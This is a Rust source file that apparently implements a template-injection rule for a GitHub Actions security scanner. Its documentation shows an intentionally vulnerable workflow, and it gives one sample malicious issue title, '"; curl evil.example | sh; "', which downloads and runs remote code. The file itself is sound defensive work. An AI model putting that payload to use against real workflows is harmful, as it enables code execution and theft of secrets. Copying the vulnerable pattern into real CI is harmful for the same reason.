//! A value that somebody else writes becomes code.

use cofferdam_facts::Control;
use cofferdam_findings::report::NotChecked;
use cofferdam_findings::{Finding, Severity};
use cofferdam_flows::{Class, Sink, SinkKind, Who};
use cofferdam_workflows::documents::{Action, Workflow};

use crate::context::Context;
use crate::injections::{self, Danger, one_line, upper};
use crate::rule::{Rule, Sink as Out};

crate::rule! {
    /// # What
    /// An expression puts a value that somebody else writes into a script, into
    /// an input that an action runs as code, or into the shell's command line.
    /// Or a script runs such a value itself, by `eval` or `bash -c`.
    ///
    /// # Why
    /// GitHub replaces `${{ … }}` before any shell reads the script. Quotes do
    /// not help: the value closes them. A title `"; curl evil.example | sh; "`
    /// is a command then, with every secret of the job and its token.
    ///
    /// # Vulnerable
    /// ```yaml
    /// on:
    ///   issues:
    /// permissions:
    ///   contents: write
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "${{ github.event.issue.title }}"
    /// ```
    ///
    /// # Fixed
    /// ```yaml
    /// on:
    ///   issues:
    /// permissions:
    ///   contents: write
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "$TITLE"
    ///         env:
    ///           TITLE: ${{ github.event.issue.title }}
    /// ```
    ///
    /// # How it is decided
    /// Each expression in a place of code is followed back to where its value
    /// comes from: through `env` at all three levels, outputs of steps and jobs,
    /// matrices, what scripts write into `GITHUB_OUTPUT` and `GITHUB_ENV`,
    /// inputs and outputs of this repository's actions and reusable workflows,
    /// and the answers of agents.
    /// Scripts of bash are parsed; in JavaScript, PowerShell and Python the
    /// lines that set a name are read. A file that a script writes is followed to
    /// the shell that reads it as code; one of `export` lines is there for one.
    ///
    /// Scripts of the checkout that a shell runs, and recipes of `make`, are read
    /// with the arguments and variables that they get; what happens there is said
    /// of the step. A line break in a value that goes into `GITHUB_OUTPUT` sets
    /// other outputs.
    ///
    /// A file is a stranger's where the head of a pull request was put into its
    /// folder last, unless the checkout refuses heads of forks. What the API
    /// answers is its author's on every event: high on a schedule, a push or a
    /// release, where nobody lets it through, medium where somebody starts the run
    /// or has merged it, and nothing where the question chooses the author.
    ///
    /// Files that lie between runs are followed too. A file of an artifact that
    /// another run made is a stranger's where a fork may have caused that run.
    /// For a cache both ends are looked up: the step that restores it, and the
    /// steps of other jobs whose key begins with the key or restore key asked
    /// for, with the same `path`, around the file that is read. Its run must be
    /// one that may save where the reader looks, by event and `cache-mode`, its
    /// caller's included. The file is a stranger's where the head of a pull
    /// request was fetched before and runs or lies there; else it holds what the
    /// scripts of that job wrote. What the reader has written anew is its own.
    /// Expressions in keys may stand for the same if what is before them is.
    /// Such a finding is high at most: the stranger has to be there before the
    /// key is taken.
    ///
    /// Words of a comment are those of somebody with a role only where that is
    /// proven: by an exact comparison of the comment's own association or of an
    /// account, or by an answer of the API that decides. A check of which nothing
    /// is proven lowers the severity by one and is named; one that comes later, is
    /// skipped or may fail counts for nothing.
    ///
    /// The finding shows the way. A value that every caller of a reusable
    /// workflow passes as a constant is none; an input that nobody in this
    /// repository passes is the caller's to decide, and low. What an action at
    /// the root, or one that nobody here uses, takes from the event itself or by
    /// an input's default is medium: who uses it has only chosen the event.
    ///
    /// What a value can hold is classed by the event's payload: free text, one
    /// line, a ref name (git allows `$(…)`, quotes and `;` in it), a name of
    /// letters and digits, a number. The last two and everything that only
    /// GitHub writes cannot break out and are no finding; nor is a value that a
    /// condition compares with constants, or one line of text in a comment.
    ///
    /// The severity is that of foreign code in the run: critical where anybody
    /// can cause it and the job can change the repository, publish, or holds a
    /// secret; high where somebody has to let it through first, or where less
    /// is held, and for reviews, which anybody may write on a pull request from
    /// a branch of the repository itself; medium for messages of merged commits;
    /// low for what takes write access or the right to start the workflow, and
    /// on `pull_request`, where a fork's run holds nothing and its author writes
    /// the workflow too.
    ///
    /// zizmor's `template-injection` and poutine's `injection` look at one file
    /// and do not know what the job holds: outputs and `needs` are unknown to
    /// them, and a reusable workflow is judged without its callers. CodeQL's
    /// `CodeInjection` and
    /// `ImproperValidationOfAiOutput` follow values too, and print no assets. Scorecard's
    /// `Dangerous-Workflow` knows a list of contexts.
    ///
    /// # References
    /// - <https://docs.github.com/en/actions/concepts/security/script-injections>
    /// - <https://docs.github.com/en/actions/reference/workflows-and-actions/events-that-trigger-workflows>
    /// - <https://docs.github.com/en/webhooks/webhook-events-and-payloads>
    /// - <https://docs.github.com/en/actions/reference/workflows-and-actions/dependency-caching>
    /// - <https://securitylab.github.com/resources/github-actions-untrusted-input/>
    pub struct TemplateInjection {
        id: "template-injection",
        title: "A value that somebody else writes becomes code",
        severity: Critical,
        controls: [X2],
        peers: [
            "zizmor/template-injection",
            "poutine/injection",
            "octoscan/expression-injection",
            "actionlint/expression",
            "gato-x/InjectionResult",
            "gato-x/ReviewInjectionResult",
            "scorecard/Dangerous-Workflow",
            "codeql/CodeInjectionCritical",
            "codeql/CodeInjectionMedium",
            "codeql/CodeInjectionLow",
            "codeql/ImproperValidationOfAiOutput",
            "sisakulint/code-injection",
            "sisakulint/reusable-workflow-taint",
        ],
        standards: [
            Cwe::Cwe94,
            Scorecard::DangerousWorkflow,
            Osps::Br0101,
            Osps::Br0104,
            StepSecurity::ScriptInjection,
        ],
    }
}

impl Rule for TemplateInjection {
    fn info(&self) -> &'static cofferdam_findings::RuleInfo {
        Self::INFO
    }

    fn workflow(&self, cx: &Context<'_>, workflow: &Workflow, out: &mut Out) {
        file(cx, workflow.path(), out);
    }

    fn action(&self, cx: &Context<'_>, action: &Action, out: &mut Out) {
        file(cx, action.path(), out);
    }

    fn repository(&self, cx: &Context<'_>, out: &mut Out) {
        for path in cx.flows.unfinished() {
            out.not_checked(NotChecked {
                code: "dataflow-limit",
                message: format!("not every way of a value into `{path}` was followed"),
                settle: "split the file, or its calls, into fewer".to_owned(),
                location: None,
                required: true,
            });
        }
        let (steps, first) = injections::unknown(cx, &is_code);
        if steps > 0 {
            out.unknown(
                Control::X2,
                first.clone(),
                "what actions elsewhere make of strangers' text that scripts take as code",
                "write their outputs as environment variables, or read what they do",
            );
            out.not_checked(NotChecked {
                code: "unknown-outputs",
                message: format!(
                    "{steps} {} take code from outputs of actions that are handed strangers' text \
                     and whose own code is not here",
                    if steps == 1 { "step" } else { "steps" }
                ),
                settle: "write such outputs as environment variables, or read what the actions do"
                    .to_owned(),
                location: first,
                required: false,
            });
        }
        if !cx.repository.workflows.is_empty() && out.evidence.is_empty() {
            let file = cx.repository.workflows.first().map(|w| w.file());
            if let Some(file) = file {
                out.satisfied(
                    Control::X2,
                    file.locate(cofferdam_facts::Span::default()),
                    "no value that somebody else writes becomes code",
                );
            }
        }
    }
}

fn is_code(sink: &Sink<'_>) -> bool {
    matches!(
        sink.kind,
        SinkKind::Script | SinkKind::Evaluated | SinkKind::CodeInput | SinkKind::ShellCommand
    )
}

fn file(cx: &Context<'_>, path: &str, out: &mut Out) {
    let dangers = injections::of_file(cx, path, &is_code);
    let mut said: Vec<(usize, String)> = Vec::new();
    for danger in &dangers {
        // The same expression again in the same script is mended with it.
        let key = (danger.sink.step.span.start, one_line(&danger.sink.written));
        if said.contains(&key) {
            continue;
        }
        said.push(key);
        let same = dangers
            .iter()
            .filter(|other| {
                other.sink.step.span == danger.sink.step.span
                    && other.sink.span != danger.sink.span
                    && one_line(&other.sink.written) == one_line(&danger.sink.written)
            })
            .map(Danger::place);
        let mut finding = report(danger);
        for place in same {
            finding = finding.related(place, "and here again");
        }
        match danger.severity {
            Severity::Info => out.report_against(&[], finding),
            _ => out.report(finding),
        }
    }
}

fn report(danger: &Danger<'_>) -> Finding {
    let value = danger.flow.source.describe();
    let becomes = match danger.sink.kind {
        SinkKind::Evaluated => "runs it as code",
        SinkKind::ShellCommand => "starts it as its shell",
        _ => "takes it as code",
    };
    let written = one_line(&danger.sink.written);
    let at = match danger.sink.kind {
        SinkKind::CodeInput if danger.sink.input.is_empty() => "in all of `with`".to_owned(),
        SinkKind::CodeInput => format!("in input `{}`", danger.sink.input),
        _ => format!("in step `{}`", one_line(&danger.sink.step.label())),
    };
    let through = if written.to_lowercase().contains(value.trim_matches('`')) {
        String::new()
    } else {
        format!(" by `{written}`")
    };
    let finding = Finding::new(
        TemplateInjection::INFO.id,
        danger.severity,
        danger.place(),
        format!("{value}: {} {becomes}{through} {at}", danger.runs()),
    )
    .confidence(danger.confidence)
    .why(why(danger))
    .fix(fix(danger))
    .subject(danger.subject())
    .group(group(danger));
    danger.trace(finding)
}

fn why(danger: &Danger<'_>) -> String {
    let what = match danger.shape.class {
        Class::Ref => "; a ref name may hold `$(…)` and quotes",
        _ => "",
    };
    format!("{}{what}", upper(&danger.loss()))
}

fn group(danger: &Danger<'_>) -> &'static str {
    match danger.shape.who {
        Who::Anyone | Who::PullRequestAuthor if danger.privileged().is_some() => {
            "places where a stranger's text becomes code with the repository's privileges"
        }
        Who::Anyone | Who::PullRequestAuthor if danger.severity > Severity::Low => {
            "places where a reviewer's text becomes code"
        }
        Who::Anyone | Who::PullRequestAuthor => {
            "places where a stranger's text becomes code in a fork's run"
        }
        Who::CommitAuthor => "places where the text of a merged commit becomes code",
        Who::Caller if danger.elsewhere.is_some() => {
            "places where a stranger's text becomes code in the repositories that use this one"
        }
        Who::Caller => "places where an input becomes code, whatever the caller passes",
        Who::Triage | Who::Dispatcher | Who::Pusher => {
            "places where text of people with a role becomes code"
        }
    }
}

fn fix(danger: &Danger<'_>) -> String {
    let written = one_line(&danger.sink.written);
    match danger.sink.kind {
        SinkKind::Evaluated => {
            "Hand the value to a program as an argument; where a shell has to read it again, write \
             it by `printf '%q'`"
                .to_owned()
        }
        SinkKind::ShellCommand => "Write the shell as a constant".to_owned(),
        SinkKind::CodeInput if danger.sink.input.eq_ignore_ascii_case("script") => format!(
            "Set an environment variable of the step to `{written}` and read it in the script, in \
             JavaScript as `process.env.NAME`"
        ),
        SinkKind::CodeInput => {
            "Hand the value over in an environment variable that the code reads".to_owned()
        }
        _ => format!(
            "Set an environment variable of the step to `{written}` and write it as \
             `\"$NAME\"` in the script"
        ),
    }
}
